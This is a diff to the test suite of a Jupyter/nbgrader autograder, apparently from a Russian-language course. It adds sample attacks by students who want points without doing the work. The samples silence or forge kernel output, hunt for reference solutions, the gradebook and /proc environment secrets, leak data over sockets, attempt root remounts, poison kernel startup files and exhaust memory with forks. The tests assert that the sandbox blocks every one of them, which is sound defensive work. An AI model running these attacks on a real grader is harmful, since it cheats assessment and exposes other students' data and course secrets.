@@ -7,6 +7,7 @@ promise about it. Student code in this batch that attacks files runs only if the
 """
 
 import csv
+import json
 import os
 import subprocess
 import sys
@@ -19,13 +20,15 @@ from nbgrader.api import Gradebook
 from conftest import (auto_points, copy_course, fill_solutions, is_test_cell, nbgrader_meta,
                       read_nb, run_nbgrader, tree_hash)
 from course import notes, report, sandbox
-from course.autograde import CannotGrade, autograde
+from course.autograde import CannotGrade, Settings, autograde
 from course.execute import MAX_RESTARTS
 from course.lessons import notebook
 
 pytestmark = pytest.mark.notebooks
 LESSON = "01_sgd"
 CELL_TIMEOUT = 20
+NOTEBOOK_TIMEOUT = 45
+SECRET = "секрет-курса-7f3a"  # in files of the course that no kernel may read
 WRONG_SGD = "def sgd_update(w, grad, lr):\n    return w + lr * grad\n"
 # A fake course package beside the notebook: every check passes, whatever the answer.
 FAKE_GRADING = "def check(name, func):\n    print(name, 'верно')\n"
@@ -85,7 +88,87 @@ def _points_before(nb, grade_id):
     raise AssertionError(f"no cell {grade_id}")
 
 
-def _submissions(course, release, perfect):
+# Attacks of a student who wants points without the work: each added to the unsolved
+# release (it must still get 0) or to the solved notebook (it must lose nothing it earned).
+ON_BLANK = {
+    # IPython's error reporting silenced or spoofed: errors no longer show
+    "excepthook": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
+    "showtraceback": "ip = get_ipython()\nip.showtraceback = lambda *a, **k: print('✓ пройдено')\n"
+                     "ip.showsyntaxerror = ip.showtraceback",
+    # every later cell's code replaced before it runs
+    "transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
+    "ast": "import ast\nclass Gut(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
+           "        return ast.Module(body=[], type_ignores=[])\n"
+           "get_ipython().ast_transformers.append(Gut())",
+    # the kernel's replies patched: every request answered "ok", with no output
+    "reply": "k = get_ipython().kernel\nasync def quiet(*a, **kw):\n"
+             "    return {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, "
+             "'payload': []}\nk.do_execute = quiet",
+    # fake answers of the judge's channel: the right MIME type with forged content
+    "forger": "from IPython.display import publish_display_data\n"
+              "import builtins\nbuiltins.print = lambda *a, **k: publish_display_data("
+              "{'application/x.course-answer': '[]'})",
+    # every route to the reference or the course package
+    "reference": "import glob, importlib, sys\nfound = []\n"
+                 "for name in ('course.reference', 'course.grading', 'course'):\n"
+                 "    try:\n        found.append(importlib.import_module(name))\n"
+                 "    except Exception as e:\n        print(type(e).__name__)\n"
+                 "paths = glob.glob('/**/reference.py', recursive=True)\n"
+                 "paths += glob.glob('/**/course/**/*.py', recursive=True)\nprint(paths)\n"
+                 "for p in paths:\n    exec(open(p).read())\n",
+    # other students' work, the gradebook, the source notebooks, runtime files
+    "snoop": "import glob, os\nseen = []\nfor pattern in ('/**/gradebook.db', '/**/*.ipynb', "
+             "'/**/secret.txt', '/root/**', '/home/**', '/proc/1/environ', '/proc/*/cmdline'):\n"
+             "    for p in glob.glob(pattern, recursive=True):\n        try:\n"
+             "            seen.append(open(p, errors='replace').read()[:5000])\n"
+             "        except Exception:\n            pass\nprint(seen)",
+    # the network: the grader's machine and the outside world
+    "network": "import socket\nfor host in ('127.0.0.1', '8.8.8.8'):\n    try:\n"
+               "        socket.create_connection((host, PORT), timeout=2).sendall(b'leak')\n"
+               "        print('connected', host)\n    except OSError as e:\n"
+               "        print(host, e)",
+    # the grader as root: remount read-write, capabilities, another student's grade
+    "root": "import os, subprocess\nprint(open('/proc/self/status').read())\n"
+            "for cmd in (['mount', '-o', 'remount,rw', '/'], ['unshare', '-m', 'true']):\n"
+            "    print(subprocess.run(cmd, capture_output=True, text=True))\n"
+            "for target in glob_targets:\n    try:\n        open(target, 'w').write('x')\n"
+            "    except OSError as e:\n        print(e)",
+}
+ON_PERFECT = {
+    # the next kernel start poisoned: a startup file, a shadowing module, then a crash
+    "poisoner": "import os, pathlib\nstartup = pathlib.Path(os.environ.get('IPYTHONDIR', '~/.ipython')"
+                ").expanduser() / 'profile_default' / 'startup'\n"
+                "startup.mkdir(parents=True, exist_ok=True)\n"
+                "(startup / '00.py').write_text('import os\\nos._exit(7)')\n"
+                "pathlib.Path('numpy.py').write_text('raise ImportError(\"отравлено\")')\n"
+                "pathlib.Path('optkit.py').write_text('raise ImportError(\"отравлено\")')\n"
+                "os._exit(1)",
+    # memory spread over many processes, each under the per-process limit
+    "forkhog": "import os, time\nkids = []\nfor _ in range(8):\n    pid = os.fork()\n"
+               "    if pid == 0:\n        block = bytearray(700 * 2 ** 20)\n"
+               "        for i in range(0, len(block), 4096):\n            block[i] = 1\n"
+               "        time.sleep(60)\n        os._exit(0)\n    kids.append(pid)\n"
+               "time.sleep(60)",
+}
+
+
+def _attacks(release, perfect, course, port):
+    targets = [str(course / "gradebook.db"), str(course / "submitted" / "perfect" / LESSON
+                                                  / f"{LESSON}.ipynb")]
+    attacks = {name: _with_cell(release, code.replace("PORT", str(port)).replace(
+        "glob_targets", repr(targets)), after_grade_id="minibatch_indices")
+               for name, code in ON_BLANK.items()}
+    attacks.update({name: _with_cell(perfect, code, after_grade_id="forward")
+                    for name, code in ON_PERFECT.items()})
+    # many slow cells before the last checks: the notebook's time runs out
+    slow = perfect
+    for _ in range(12):
+        slow = _with_cell(slow, "import time\ntime.sleep(5)", after_grade_id="loss_and_grads")
+    attacks["slow"] = slow
+    return attacks
+
+
+def _submissions(course, release, perfect, port):
     other = read_nb(course / "release" / "02_nesterov" / "02_nesterov.ipynb")
     submissions = {
         "perfect": perfect,
@@ -118,6 +201,7 @@ def _submissions(course, release, perfect):
             c for c in perfect.cells
             if "minibatch_indices" not in nbgrader_meta(c).get("grade_id", "")]}),
         "faker": _replace(perfect, "sgd_update", WRONG_SGD),
+        **_attacks(release, perfect, course.resolve(), port),
     }
     if sandbox.available():
         # Unsandboxed, these would really reach the files of the course and the grader.
@@ -137,16 +221,48 @@ def _submissions(course, release, perfect):
     return submissions
 
 
+def _malformed(perfect):
+    """Files that break parsers: deep nesting, marks of the wrong types, a 3 MB cell."""
+    mistyped = nbformat.from_dict(perfect)
+    for cell in mistyped.cells:
+        if nbgrader_meta(cell).get("grade_id") == "test_forward_hidden":
+            cell.metadata["nbgrader"]["grade_id"] = 42
+        if nbgrader_meta(cell).get("grade_id") == "sgd_update":
+            cell.metadata["nbgrader"] = ["solution"]
+    mistyped.cells.append(nbformat.v4.new_code_cell("x = 1"))
+    mistyped.cells[-1]["id"] = 17
+    huge = nbformat.from_dict(perfect)
+    huge.cells.append(nbformat.v4.new_markdown_cell("я" * 1_600_000))
+    return {"nested": '{"cells": [], "metadata": {"x": ' + "[" * 200_000 + "]" * 200_000 + "}}", "mistyped": json.dumps(mistyped),
+            "huge": json.dumps(huge)}
+
+
 @pytest.fixture(scope="module")
-def graded(tmp_path_factory):
+def listener():
+    """A TCP server on the grader's loopback: no kernel may reach it."""
+    import socket
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.1)
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory, listener):
     if _in_ci():
         assert sandbox.available(), "bubblewrap (bwrap) is required in CI"
+    if not sandbox.available():
+        pytest.skip("нет песочницы bubblewrap: python -m course autograde не оценивает")
     course = copy_course(tmp_path_factory.mktemp("course"))
+    (course / "secret.txt").write_text(SECRET)
     for lesson in (LESSON, "02_nesterov"):
         assert run_nbgrader(["generate_assignment", lesson, "--force"], course).returncode == 0
     release = read_nb(course / "release" / LESSON / f"{LESSON}.ipynb")
     perfect = fill_solutions(release, read_nb(notebook(LESSON, "source")))
-    for student, nb in _submissions(course, release, perfect).items():
+    port = listener.getsockname()[1]
+    for student, nb in _submissions(course, release, perfect, port).items():
         folder = course / "submitted" / student / LESSON
         folder.mkdir(parents=True)
         nbformat.write(nb, str(folder / f"{LESSON}.ipynb"))
@@ -154,13 +270,15 @@ def graded(tmp_path_factory):
     fake.mkdir()
     (fake / "__init__.py").write_text("")
     (fake / "grading.py").write_text(FAKE_GRADING)
-    for student, text in (("broken", "{ это не JSON"), ("empty", "")):
+    raw = {"broken": "{ это не JSON", "empty": "", **_malformed(perfect)}
+    for student, text in raw.items():
         folder = course / "submitted" / student / LESSON
         folder.mkdir(parents=True)
         (folder / f"{LESSON}.ipynb").write_text(text)
     before = tree_hash(course / "submitted")
-    outcomes = {o.student: o for o in autograde(course, [LESSON], jobs=2, memory_gb=4,
-                                                 cell_timeout=CELL_TIMEOUT)}
+    settings = Settings(jobs=2, memory_gb=4, cell_timeout=CELL_TIMEOUT,
+                        notebook_timeout=NOTEBOOK_TIMEOUT)
+    outcomes = {o.student: o for o in autograde(course, [LESSON], settings=settings)}
     return course, outcomes, before
 
 
@@ -172,17 +290,56 @@ def _score(course, student):
 def test_every_student_gets_exactly_the_points_earned(graded):
     course, outcomes, _ = graded
     full, without_sgd = _points(), _points(exclude="sgd_update")
+    source = read_nb(notebook(LESSON, "source"))
     expected = {"perfect": full, "blank": 0, "wrong": without_sgd, "killer": full,
                 "segfault": full, "suicidal": without_sgd, "looper": full, "stubborn": full,
                 "hog": full, "chatty": full, "foreign": 0, "edited": without_sgd,
                 "deleted": full, "reordered": full, "faker": without_sgd, "broken": 0,
-                "cut": _points(exclude="minibatch_indices"),
-                "empty": 0}
-    expected["berserk"] = _points_before(read_nb(notebook(LESSON, "source")), "sgd_update")
-    assert 0 < expected["berserk"] < full
-    if "vandal" in outcomes:
-        expected["vandal"] = full
+                "cut": _points(exclude="minibatch_indices"), "empty": 0,
+                "berserk": _points_before(source, "sgd_update"),
+                "slow": _points_before(source, "loss_and_grads"),
+                "nested": 0, "huge": 0,
+                # marks of the wrong types are dropped; the cells come back from the
+                # student version, and the student's own definitions still count
+                "mistyped": full,
+                "vandal": full, **{name: 0 for name in ON_BLANK},
+                **{name: full for name in ON_PERFECT}}
+    assert 0 < expected["berserk"] < full and 0 < expected["slow"] < expected["berserk"]
     assert {s: _score(course, s) for s in outcomes} == expected
+
+
+def _outputs(course, student):
+    nb = read_nb(course / "autograded" / student / LESSON / f"{LESSON}.ipynb")
+    return json.dumps([c.get("outputs", []) for c in nb.cells], ensure_ascii=False)
+
+
+def test_a_kernel_sees_nothing_but_its_own_submission(graded, listener):
+    course, _, _ = graded
+    seen = _outputs(course, "snoop") + _outputs(course, "reference") + _outputs(course, "root")
+    assert "ModuleNotFoundError" in _outputs(course, "reference")
+    for secret in (SECRET, "SQLite format", "BEGIN SOLUTION", "BEGIN HIDDEN TESTS",
+                   "def adam_update", "gd-optimizers"):
+        assert secret not in seen
+    assert "connected" not in _outputs(course, "network")
+    try:
+        listener.accept()
+        raise AssertionError("a kernel connected to the grader's loopback")
+    except OSError:
+        pass
+    status = _outputs(course, "root")
+    assert "CapEff:\\t0000000000000000" in status and "Uid:\\t65534" in status
+
+
+def test_the_judged_cells_show_the_judges_verdict_not_the_kernels(graded):
+    course, outcomes, _ = graded
+    forged = _outputs(course, "forger")
+    assert "не проверена" in forged or "не прошла" in forged
+    verdicts = notes.load(course, notes.VERDICTS)
+    assert all(v["passed"] for v in verdicts[("perfect", LESSON)])
+    assert len(verdicts[("perfect", LESSON)]) == 4
+    assert not any(v["passed"] for name in ON_BLANK for v in verdicts.get((name, LESSON), []))
+    wrong = {v["exercise"]: v for v in verdicts[("wrong", LESSON)]}
+    assert wrong["sgd_update"]["mistake"] == "sign" and not wrong["sgd_update"]["passed"]
 
 
 def _notes(outcomes, student):
@@ -272,28 +429,18 @@ def test_a_kernel_that_cannot_start_stops_grading_and_writes_nothing(tmp_path, m
     release = read_nb(course / "release" / LESSON / f"{LESSON}.ipynb")
     nbformat.write(fill_solutions(release, read_nb(notebook(LESSON, "source"))),
                    str(folder / f"{LESSON}.ipynb"))
-    # A broken environment: every kernel exits as it starts (the workers start as usual).
-    # It lies under /tmp, so in the sandbox it is seen only because PYTHONPATH is kept visible.
-    broken = tmp_path / "broken"
-    broken.mkdir()
-    (broken / "sitecustomize.py").write_text(
-        "import os\nif os.environ.get('NBGRADER_EXECUTION') == 'autograde':\n    os._exit(3)\n")
-    monkeypatch.setenv("PYTHONPATH", str(broken))
+    # A broken environment: the python3 kernel exits as it starts (the workers start as
+    # usual), as with a kernelspec that points to a missing interpreter.
+    spec = tmp_path / "jupyter" / "kernels" / "python3"
+    spec.mkdir(parents=True)
+    (spec / "kernel.json").write_text(json.dumps(
+        {"argv": ["/bin/false", "{connection_file}"], "display_name": "Python 3",
+         "language": "python"}))
+    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path / "jupyter"))
     before = tree_hash(course)
     with pytest.raises(CannotGrade, match="Ядро Python не запускается .*баллы не записаны"):
-        autograde(course, [LESSON], jobs=1)
+        autograde(course, [LESSON], settings=Settings(jobs=1))
     assert tree_hash(course) == before
-
-
-def test_the_sandbox_keeps_the_environment_visible_when_it_lies_under_tmp(tmp_path,
-                                                                          monkeypatch):
-    outside = Path("/usr")
-    (tmp_path / "lib").mkdir()
-    monkeypatch.setattr(sys, "path", [str(tmp_path), str(outside), ""])
-    monkeypatch.setenv("PYTHONPATH", str(tmp_path / "lib"))
-    visible = sandbox.environment()
-    assert tmp_path.resolve() in visible and (tmp_path / "lib").resolve() in visible
-    assert outside not in visible
 
 
 def test_the_command_line_speaks_russian_in_help_and_errors():
